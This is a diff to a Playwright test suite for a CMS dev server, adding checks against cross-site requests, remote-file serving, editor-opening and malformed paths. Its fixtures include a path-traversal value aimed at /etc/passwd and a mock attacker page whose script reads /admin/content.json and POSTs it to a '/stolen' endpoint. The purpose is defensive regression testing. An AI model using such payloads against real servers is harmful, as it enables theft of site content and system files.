@@ -5,12 +5,13 @@
  * page's own requests still work; and `npm run cms` stops, saying so, when its site's port is taken.
  */
 import { spawnSync } from "node:child_process"
+import fs from "node:fs"
 import http from "node:http"
 import net from "node:net"
 import path from "node:path"
-import { expect, test } from "@playwright/test"
+import { expect, test, type Page } from "@playwright/test"
 import { SEND_PATH } from "../build/outbox/provider-protocol"
-import { CMS_PROXY_PORT, CMS_SITE_ORIGIN, CMS_SITE_PORT } from "./support/cms-sandbox"
+import { CMS_PROXY_PORT, CMS_SITE_ORIGIN, CMS_SITE_PORT, editorMark } from "./support/cms-sandbox"
 import { sandbox } from "./support/cms-ui"
 import { enquiry } from "./support/helpers"
 
@@ -61,6 +62,25 @@ test.describe("the dev server", () => {
       expect({ pathname, headers, status: answer.status }).toEqual({ pathname, headers, status: 403 })
       expect(answer.headers["access-control-allow-origin"]).toBeUndefined()
       expect(answer.text).not.toContain('"texts"')
+    }
+  })
+
+  test("answers an error to a request it cannot handle, from its own page too, and goes on answering", async () => {
+    const own = { Host: SITE_HOST, "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors" }
+    for (const pathname of [
+      "/_gatsby/file/x/y",
+      "/_gatsby/image/x/y/z.png",
+      "/__original-stack-frame?moduleId=%00",
+      "/__file-code-frame?filePath=..%2F..%2Fetc%2Fpasswd&lineNumber=x",
+      "/__open-stack-frame-in-editor",
+      "/page-data/%ZZ/page-data.json",
+      "/___graphql?query=%7B",
+      "/%E0%A4%A",
+    ]) {
+      const answer = await request(CMS_SITE_PORT, pathname, own)
+      expect({ pathname, nosniff: answer.headers["x-content-type-options"] }).toEqual({ pathname, nosniff: "nosniff" })
+      const home = await request(CMS_SITE_PORT, "/", { Host: SITE_HOST })
+      expect({ after: pathname, status: home.status }).toEqual({ after: pathname, status: 200 })
     }
   })
 
@@ -121,4 +141,81 @@ test("npm run cms stops, saying so, when its site's port is taken, and trusts no
   } finally {
     blocker.close()
   }
+})
+
+test.describe("a link from another site's page, followed in the browser (issue 36)", () => {
+  // The other site: a page with one link, and the page it would have the dev server fetch and serve as its own.
+  let other: http.Server
+  let otherOrigin = ""
+  const heard: string[] = []
+  test.beforeAll(async () => {
+    other = http.createServer((request, response) => {
+      heard.push(request.url ?? "")
+      response.writeHead(200, { "Content-Type": "text/html; charset=utf-8" })
+      const to = new URL(request.url ?? "/", otherOrigin).searchParams.get("to")
+      if (to) return void response.end(`<!doctype html><title>Other site</title><a id="go" href="${to}">Go</a>`)
+      response.end(
+        `<!doctype html><script>fetch("/admin/content.json").then((r) => r.text())` +
+          `.then((t) => fetch("${otherOrigin}/stolen", { method: "POST", body: t, mode: "no-cors" }))</script>`,
+      )
+    })
+    // 127.0.0.1 is another site than localhost: the browser marks the navigation "Sec-Fetch-Site: cross-site".
+    await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve))
+    otherOrigin = `http://127.0.0.1:${(other.address() as net.AddressInfo).port}`
+  })
+  test.afterAll(() => other.close())
+
+  /** Opens the other site's page and follows its link to `pathname` of the dev server; resolves with the answer. */
+  async function follow(page: Page, pathname: string) {
+    await page.goto(`${otherOrigin}/?to=${encodeURIComponent(CMS_SITE_ORIGIN + pathname)}`)
+    const [answer] = await Promise.all([
+      page.waitForResponse((response) => response.url().startsWith(CMS_SITE_ORIGIN)),
+      page.locator("#go").click(),
+    ])
+    return answer
+  }
+
+  /** The dev server still answers its home page. */
+  async function stillAnswers() {
+    expect((await request(CMS_SITE_PORT, "/", { Host: SITE_HOST })).status).toBe(200)
+  }
+
+  test("opens the site's pages, each answer marked nosniff", async ({ page }) => {
+    for (const pathname of ["/", "/admin/"]) {
+      const answer = await follow(page, pathname)
+      expect({ pathname, status: answer.status() }).toEqual({ pathname, status: 200 })
+      expect(answer.headers()["x-content-type-options"]).toBe("nosniff")
+    }
+  })
+
+  test("cannot have the dev server fetch another address and serve it as its own", async ({ page }) => {
+    const served = `/_gatsby/file/abc/p.html?u=${encodeURIComponent(`${otherOrigin}/p.html`)}`
+    const answer = await follow(page, served)
+    expect(answer.status()).toBe(403)
+    expect(answer.headers()["x-content-type-options"]).toBe("nosniff")
+    await expect(page.locator("body")).toContainText("serves no remote files")
+    // The refusal came before any fetch: the other site never heard from the dev server, and nothing was sent back.
+    expect(heard.filter((url) => url.startsWith("/p.html") || url.startsWith("/stolen"))).toEqual([])
+    await stillAnswers()
+  })
+
+  test("cannot stop the dev server with a remote-file address it cannot read", async ({ page }) => {
+    expect((await follow(page, "/_gatsby/file/x/y")).status()).toBe(403)
+    expect((await follow(page, "/_gatsby/image/x/y/z.png")).status()).toBe(403)
+    await stillAnswers()
+  })
+
+  test("cannot open a file in the developer's editor, which the dev server's own page still can", async ({ page }) => {
+    const sandboxFile = (name: string) => path.join(sandbox(), name)
+    for (const name of ["package.json", "README.md"]) fs.rmSync(editorMark(sandboxFile(name)), { force: true })
+    const answer = await follow(page, "/__open-stack-frame-in-editor?fileName=package.json")
+    expect(answer.status()).toBe(403)
+    await stillAnswers()
+    // The dev server's own page (Gatsby's error overlay does this) opens a file after the refused link: once its mark
+    // is there, the link's would have been too.
+    await page.goto("/")
+    await page.evaluate(() => fetch("/__open-stack-frame-in-editor?fileName=README.md"))
+    await expect.poll(() => fs.existsSync(editorMark(sandboxFile("README.md")))).toBe(true)
+    expect(fs.existsSync(editorMark(sandboxFile("package.json")))).toBe(false)
+  })
 })
